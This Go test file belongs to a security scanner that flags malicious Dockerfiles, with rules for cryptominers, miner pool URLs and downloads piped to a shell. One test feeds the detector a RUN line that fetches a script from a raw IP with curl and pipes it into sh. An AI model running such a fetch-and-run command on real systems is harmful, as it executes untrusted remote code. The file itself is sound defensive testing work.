package dockerfile_test

import (
	"bufio"
	"bytes"
	"context"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/strata-sec/strata/detectors"
	"github.com/strata-sec/strata/detectors/dockerfile"
	"github.com/strata-sec/strata/detectors/hierarchical"
	dfmodel "github.com/strata-sec/strata/internal/dockerfile"
)

// wants reads the "# want: RULE..." comments of a testdata Dockerfile: the
// rules that must fire at the next instruction, keyed by its first line.
func wants(t *testing.T, src []byte) map[int][]string {
	t.Helper()
	out := map[int][]string{}
	var pending []string
	sc := bufio.NewScanner(bytes.NewReader(src))
	for n := 1; sc.Scan(); n++ {
		line := strings.TrimSpace(sc.Text())
		if rules, ok := strings.CutPrefix(line, "# want:"); ok {
			pending = append(pending, strings.Fields(rules)...)
			continue
		}
		if line == "" || strings.HasPrefix(line, "#") || pending == nil {
			continue
		}
		out[n], pending = pending, nil
	}
	return out
}

// instructionAt is the first line of the instruction that spans line.
func instructionAt(t *testing.T, src []byte, line int) int {
	t.Helper()
	f, err := dfmodel.Parse(src)
	if err != nil {
		t.Fatal(err)
	}
	for _, n := range f.Nodes {
		if n.StartLine <= line && line <= n.EndLine {
			return n.StartLine
		}
	}
	return 0
}

// checkPosition fails unless f points at its evidence in the Dockerfile
// text: the physical line and column where the evidence's first word
// starts (quotes aside), or, for evidence not in the instruction's text
// (a build-context file's, or composed by the detector), the column of the
// instruction's keyword on its first line.
func checkPosition(t *testing.T, src []byte, f detectors.Finding, dockerfilePath string) {
	t.Helper()
	lines := strings.Split(string(src), "\n")
	if f.Line < 1 || f.Line > len(lines) || f.Column < 1 {
		t.Errorf("%s (%s): position %d:%d out of the Dockerfile", f.Rule, f.Evidence, f.Line, f.Column)
		return
	}
	runes := []rune(lines[f.Line-1])
	if f.Column > len(runes) {
		t.Errorf("%s (%s): column %d past the end of line %d %q", f.Rule, f.Evidence, f.Column, f.Line, lines[f.Line-1])
		return
	}
	rest := string(runes[f.Column-1:])
	ev := strings.TrimPrefix(f.Evidence, "discarded stage (not scored): ")
	word := strings.Trim(strings.Fields(ev + " x")[0], `"'`)
	atKeyword := f.Line == instructionAt(t, src, f.Line) && strings.HasPrefix(strings.ToUpper(rest), strings.ToUpper(strings.Fields(f.CreatedBy)[0]))
	if f.Path != dockerfilePath || f.Category == detectors.CategoryNotScanned {
		if !atKeyword {
			t.Errorf("%s (%s in %s): at %d:%d %q, want the instruction's keyword", f.Rule, ev, f.Path, f.Line, f.Column, rest)
		}
		return
	}
	if !strings.HasPrefix(strings.NewReplacer(`"`, "", "'", "").Replace(rest), word) && !(atKeyword && !strings.Contains(string(src), word)) {
		t.Errorf("%s (%s): at %d:%d the text is %q, want the evidence's first word %q", f.Rule, ev, f.Line, f.Column, rest, word)
	}
}

// TestScanTestdata scans each testdata Dockerfile with its directory as the
// context: the decision, every wanted rule at the instruction that wants
// it, no finding at an instruction that wants none, and every finding at
// the line and column of its evidence.
func TestScanTestdata(t *testing.T) {
	tests := []struct {
		name string
		want detectors.Decision
	}{
		{"add-url", detectors.Malicious},
		{"benign-node", detectors.Clean},
		{"heredoc-persist", detectors.Malicious},
		{"missing-source", detectors.Incomplete},
		{"multiline-run", detectors.Malicious},
		{"multistage", detectors.Malicious},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			file := filepath.Join("testdata", tt.name, "Dockerfile")
			src, err := os.ReadFile(file)
			if err != nil {
				t.Fatal(err)
			}
			v, err := dockerfile.New().ScanPath(context.Background(), file, "")
			if err != nil {
				t.Fatal(err)
			}
			if v.Decision != tt.want {
				t.Errorf("decision %s, want %s (score %v)", v.Decision, tt.want, v.Score)
			}
			want := wants(t, src)
			got := map[int][]string{}
			for _, f := range v.Findings {
				at := instructionAt(t, src, f.Line)
				got[at] = append(got[at], f.Rule)
				if _, ok := want[at]; !ok {
					t.Errorf("finding %s (%s) at line %d, where the Dockerfile wants none", f.Rule, f.Evidence, f.Line)
				}
				if f.Layer != detectors.NoLayer || f.Path == "" {
					t.Errorf("finding %s: layer %d path %q, want NoLayer and a path", f.Rule, f.Layer, f.Path)
				}
				checkPosition(t, src, f, filepath.ToSlash(file))
			}
			for line, rules := range want {
				for _, r := range rules {
					if !slices.Contains(got[line], r) {
						t.Errorf("line %d: no %s finding (got %v)", line, r, got[line])
					}
				}
			}
		})
	}
}

// TestPositions pins where findings of a RUN over several lines and of
// indented instructions point (checked by hand against the file).
func TestPositions(t *testing.T) {
	v, err := dockerfile.New().ScanPath(context.Background(), "testdata/multiline-run/Dockerfile", "")
	if err != nil {
		t.Fatal(err)
	}
	type pos struct {
		rule      string
		line, col int
	}
	want := []pos{
		{"miner-repo", 9, 5},           // git clone on the third physical line of the RUN
		{"miner-repo", 9, 23},          // the repository inside the URL
		{"download-pipe-shell", 11, 5}, // the pipeline's curl, after a blank continuation line
		{"raw-ip-download", 11, 5},
		{"stratum-url", 14, 14},      // in an ENV indented by four spaces
		{"background-miner", 16, 47}, // after a tab, the keyword and a --mount flag
		{"run-miner", 16, 47},
		{"miner-options", 17, 8}, // on the continuation line, after a tab and six spaces
	}
	var got []pos
	for _, f := range v.Findings {
		got = append(got, pos{f.Rule, f.Line, f.Column})
	}
	if !slices.Equal(got, want) {
		t.Errorf("positions\n got %v\nwant %v", got, want)
	}
}

// TestNoDuplicates: a config field set by an instruction is one finding per
// instruction, rule and evidence (the model's image holds it twice: as the
// config and as the instruction's history entry), and the score counts it
// once.
func TestNoDuplicates(t *testing.T) {
	for _, name := range []string{"add-url", "heredoc-persist", "multiline-run", "multistage"} {
		t.Run(name, func(t *testing.T) {
			v, err := dockerfile.New().ScanPath(context.Background(), filepath.Join("testdata", name, "Dockerfile"), "")
			if err != nil {
				t.Fatal(err)
			}
			seen := map[string]bool{}
			for _, f := range v.Findings {
				k := fmt.Sprintf("%d:%d %s %s %s", f.Line, f.Column, f.Rule, f.Path, f.Evidence)
				if seen[k] {
					t.Errorf("duplicate finding %s", k)
				}
				seen[k] = true
			}
			if s, _ := hierarchical.Score(v.Findings); s != v.Score {
				t.Errorf("score %v, the findings shown score %v", v.Score, s)
			}
		})
	}
}

// TestVersion: the detector's version names the hierarchical rule table
// and file analysis it applies, so it changes whenever they do.
func TestVersion(t *testing.T) {
	m := regexp.MustCompile(`^(\d+\.\d+\.\d+)\+h(.+)\.f(\d+)$`).FindStringSubmatch(dockerfile.Version)
	if m == nil {
		t.Fatalf("Version %q, want MODEL+hHIERARCHICAL.fFILES", dockerfile.Version)
	}
	if m[1] != dockerfile.ModelVersion || m[2] != hierarchical.Version || m[3] != strconv.Itoa(hierarchical.FileAnalysisVersion) {
		t.Errorf("Version %q does not follow ModelVersion %s, hierarchical %s, file analysis %d",
			dockerfile.Version, dockerfile.ModelVersion, hierarchical.Version, hierarchical.FileAnalysisVersion)
	}
	if got := dockerfile.New().Version(); got != dockerfile.Version {
		t.Errorf("Detector.Version() %q, want %q", got, dockerfile.Version)
	}
	v, err := dockerfile.New().ScanPath(context.Background(), "testdata/add-url/Dockerfile", "")
	if err != nil {
		t.Fatal(err)
	}
	if v.Info["hierarchical_version"] != hierarchical.Version {
		t.Errorf("Info hierarchical_version %q, want %q", v.Info["hierarchical_version"], hierarchical.Version)
	}
}

// TestMultiStage: evidence of a stage the final image copies from counts;
// evidence of a stage nothing reaches is reported with weight 0.
func TestMultiStage(t *testing.T) {
	v, err := dockerfile.New().ScanPath(context.Background(), "testdata/multistage/Dockerfile", "")
	if err != nil {
		t.Fatal(err)
	}
	if got := v.Info["discarded_stages"]; got != "unused" {
		t.Errorf("discarded_stages %q, want unused", got)
	}
	for _, f := range v.Findings {
		switch {
		case f.Line == 10 && f.Weight != 0:
			t.Errorf("discarded stage's %s has weight %v, want 0", f.Rule, f.Weight)
		case f.Line == 5 && f.Weight == 0:
			t.Errorf("the copied-from builder's %s has weight 0", f.Rule)
		case f.Line == 16 && f.Path != "testdata/multistage/start.sh":
			t.Errorf("COPY --from finding %s names %q, want the context file", f.Rule, f.Path)
		}
	}
}

// TestNoContext: without a context, ADD/COPY sources are not scanned and the
// Dockerfile cannot be called clean.
func TestNoContext(t *testing.T) {
	src := []byte("FROM debian:bookworm\nCOPY app /usr/local/bin/app\nCMD [\"app\"]\n")
	v, err := dockerfile.New().Scan(context.Background(), dockerfile.Input{Dockerfile: src, Path: "Dockerfile"})
	if err != nil {
		t.Fatal(err)
	}
	if v.Decision != detectors.Incomplete || len(v.Findings) != 1 || v.Findings[0].Line != 2 {
		t.Errorf("got %s %+v, want incomplete with one not-scanned finding at line 2", v.Decision, v.Findings)
	}
}

// TestLimit: a context file over the per-file bound is a not-scanned finding.
func TestLimit(t *testing.T) {
	v, err := dockerfile.New(dockerfile.WithMaxFileBytes(10)).ScanPath(context.Background(), "testdata/multistage/Dockerfile", "")
	if err != nil {
		t.Fatal(err)
	}
	n := 0
	for _, f := range v.Findings {
		if f.Category == detectors.CategoryNotScanned {
			n++
			if f.Line != 6 || !strings.Contains(f.Evidence, "limit") {
				t.Errorf("not-scanned finding at line %d (%s), want line 6 with the limit", f.Line, f.Evidence)
			}
		}
	}
	if n != 1 {
		t.Errorf("%d not-scanned findings, want 1", n)
	}
}

func TestParseError(t *testing.T) {
	_, err := dockerfile.New().Scan(context.Background(), dockerfile.Input{Dockerfile: []byte("RUN echo no FROM\n"), Path: "Dockerfile"})
	if err == nil || !strings.Contains(err.Error(), "FROM") {
		t.Errorf("err = %v, want one about the missing FROM", err)
	}
}

// TestPositionsBacktickEscape: with `# escape=` + "`", a backtick continues
// the line; positions still name the physical line and column.
func TestPositionsBacktickEscape(t *testing.T) {
	src := "# escape=`\nFROM debian:bookworm\nRUN apt-get update && `\n  curl -fsSL http://203.0.113.9/setup.sh | sh\n"
	v, err := dockerfile.New().Scan(context.Background(), dockerfile.Input{Dockerfile: []byte(src), Path: "Dockerfile"})
	if err != nil {
		t.Fatal(err)
	}
	n := 0
	for _, f := range v.Findings {
		if f.Rule == "download-pipe-shell" || f.Rule == "raw-ip-download" {
			n++
			if f.Line != 4 || f.Column != 3 {
				t.Errorf("%s at %d:%d, want 4:3", f.Rule, f.Line, f.Column)
			}
		}
	}
	if n != 2 {
		t.Errorf("findings %+v, want download-pipe-shell and raw-ip-download", v.Findings)
	}
}
